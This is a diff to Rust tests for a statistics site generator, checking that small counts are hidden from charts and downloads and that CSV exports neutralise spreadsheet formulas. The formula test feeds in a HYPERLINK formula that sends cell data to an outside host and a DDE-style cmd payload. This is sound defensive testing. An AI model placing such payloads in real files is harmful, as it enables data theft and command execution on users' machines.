@@ -212,7 +212,7 @@ fn small_counts_never_reach_the_built_site() {
     // the counts and the rates built on them (6/4217 and 19/861 per 1000, and their
     // ratios to 120/9000).
     let forbidden = [
-        ">6<", ",6,", ">19<", ",19,", "1.42", "1.423", "22.07", "22.1", "0.107", "1.655", "1.66",
+        ">6<", ",6,", ">19<", ",19,", "1.42", "1.423", "22.07", ">22.1<", "0.107", "1.655", "1.66",
     ];
     for (path, bytes) in &a {
         if path.starts_with("assets/") {
@@ -235,6 +235,123 @@ fn small_counts_never_reach_the_built_site() {
     );
     // Shown figures do reach the site: the test would notice if nothing were written.
     assert!(page.contains(">23<") && page.contains(">120<"));
+}
+
+/// Builds the fixture with each `(name, text)` written over `content/{name}`.
+fn build_with(name: &str, files: &[(&str, &str)]) -> BTreeMap<String, Vec<u8>> {
+    let root = scratch(name);
+    copy_tree(&fixture().join("content"), &root.join("content"));
+    for (path, text) in files {
+        fs::write(root.join("content").join(path), text).expect("write");
+    }
+    build(&root)
+}
+
+#[test]
+fn small_counts_in_charts_never_reach_the_built_site() {
+    let rare = fs::read_to_string(fixture().join("content/data/rare.csv")).expect("rare.csv");
+    let qbl = fs::read_to_string(fixture().join("content/data/qbl-compliance.csv"))
+        .expect("qbl-compliance.csv");
+    assert!(rare.contains("2024-02,3,390\n") && qbl.contains("2024-03,46,50\n"));
+    // February: 3 haemorrhages in 390 births, a small numerator. March: blood loss was
+    // quantified at 46 of 50 births, so 4 births without, a small complement. Then the same
+    // months with 6 in 390 and 44 of 50 (6 without): every file of the site must be the
+    // same, or it gives the hidden counts away.
+    let a = build_with(
+        "charts-hidden-a",
+        &[("data/rare.csv", &rare), ("data/qbl-compliance.csv", &qbl)],
+    );
+    let b = build_with(
+        "charts-hidden-b",
+        &[
+            (
+                "data/rare.csv",
+                &rare.replace("2024-02,3,390", "2024-02,6,390"),
+            ),
+            (
+                "data/qbl-compliance.csv",
+                &qbl.replace("2024-03,46,50", "2024-03,44,50"),
+            ),
+        ],
+    );
+    assert_eq!(a.keys().collect::<Vec<_>>(), b.keys().collect::<Vec<_>>());
+    for (path, bytes) in &a {
+        assert!(
+            *bytes == b[path],
+            "{path} changes with a hidden period's counts, so it reveals them"
+        );
+    }
+    // Nor is any of the four rates written anywhere, in the forms lantern writes numbers:
+    // 3/390 and 6/390 per 100, 46/50 and 44/50 as a percentage.
+    let forbidden = [
+        "0.769231", ">0.77<", "1.538462", ">1.54<", ",92,", ">92<", "92%", ",88,", ">88<", "88%",
+    ];
+    for (path, bytes) in &a {
+        if path.starts_with("assets/") {
+            continue;
+        }
+        let text = String::from_utf8_lossy(bytes);
+        for f in forbidden {
+            assert!(!text.contains(f), "{path} contains {f:?}");
+        }
+    }
+    // The page says so under each chart, and the downloads mark the periods `[c]`.
+    let page = String::from_utf8_lossy(&a["evaluations/e/index.html"]);
+    for month in ["Feb 2024", "Mar 2024"] {
+        let note = format!(
+            "<p class=\"figure-note\">1 month with fewer than 8 events, or fewer than 8 without the event, is not shown ({month}), so that no one can be identified; the mean and limits come from the months shown.</p>"
+        );
+        assert!(page.contains(&note), "{note}");
+    }
+    let download =
+        |name: &str| String::from_utf8_lossy(&a[&format!("evaluations/e/{name}")]).into_owned();
+    assert!(download("rare.csv").contains("\n2024-02,[c],"));
+    assert!(download("qbl-compliance.csv").contains("\n2024-03,[c],"));
+    // The months shown are there.
+    assert!(download("qbl-compliance.csv").contains("\n2024-02,82.692308,"));
+}
+
+#[test]
+fn csv_downloads_neutralise_formulas_and_keep_numbers() {
+    // A group id from the data file and a label from library.yaml that a spreadsheet
+    // would run as formulas.
+    let groups = "group,events,population\nwhite-british,120,9000\nblack-african,6,4217\nasian-pakistani,23,1532\nblack-caribbean,19,861\n\"=HYPERLINK(\"\"https://example.org/?\"\"&A1,\"\"Open\"\")\",40,8000\n";
+    let config = fs::read_to_string(fixture().join("content/library.yaml")).expect("config");
+    let config = config.replace(
+        "asian-pakistani: Asian or Asian British - Pakistani",
+        "asian-pakistani: \"@SUM(1+1)*cmd|' /C calc'!A0\"",
+    );
+    let files = build_with(
+        "charts-formulas",
+        &[("data/by-ethnicity.csv", groups), ("library.yaml", &config)],
+    );
+    let text = std::str::from_utf8(&files["evaluations/e/by-ethnicity.csv"]).expect("UTF-8");
+    let (_, rows) = csv_rows(text);
+    let row = |label_start: &str| {
+        rows.iter()
+            .find(|r| r[1].starts_with(label_start))
+            .unwrap_or_else(|| panic!("a row labelled {label_start}: {text}"))
+    };
+    let link = row("'=HYPERLINK(");
+    assert_eq!(
+        link[0],
+        "'=HYPERLINK(\"https://example.org/?\"&A1,\"Open\")"
+    );
+    // Its rate, 5 per 1000, is below the reference's 13.3: a negative difference, which
+    // is a number and stays one.
+    assert_eq!(link[8], "-8.3333");
+    assert_eq!(row("'@SUM(")[0], "asian-pakistani");
+    // No text cell of any download begins as a formula would.
+    for (path, bytes) in files.iter().filter(|(p, _)| p.ends_with(".csv")) {
+        let (header, rows) = csv_rows(std::str::from_utf8(bytes).expect("UTF-8"));
+        for cell in rows.iter().flatten().chain(&header) {
+            let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+            assert!(
+                !formula || cell.parse::<f64>().is_ok(),
+                "{path}: {cell:?} would run as a formula"
+            );
+        }
+    }
 }
 
 #[test]
